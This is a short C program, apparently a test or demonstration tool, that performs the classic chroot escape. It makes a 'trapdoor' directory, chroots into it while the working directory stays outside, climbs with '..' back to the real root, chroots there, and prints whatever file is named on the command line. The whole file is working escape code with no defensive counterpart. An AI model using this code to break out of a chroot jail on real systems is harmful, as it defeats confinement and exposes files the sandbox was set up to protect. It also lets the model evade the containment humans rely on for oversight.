/* The classic way out of a chroot: escape FILE
 *
 * chroot(2) leaves the working directory where it is. Once that lies above the root, nothing stops
 * `..` from climbing to the top of the file system. Prints FILE as it is found there.
 *
 * Exit status: 0 where FILE was found; 1 where the climb ended somewhere else; 2 where it did not
 * begin.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2 || chdir("/") || (mkdir("trapdoor", 0700) && access("trapdoor", F_OK)) ||
	    chroot("trapdoor"))
		return 2;
	for (int i = 0; i < 1024; i++)
		if (chdir(".."))
			return 2;
	if (chroot("."))
		return 2;

	FILE *file = fopen(argv[1], "r");
	if (!file)
		return 1;
	for (int byte; (byte = getc(file)) != EOF;)
		putchar(byte);
	return 0;
}
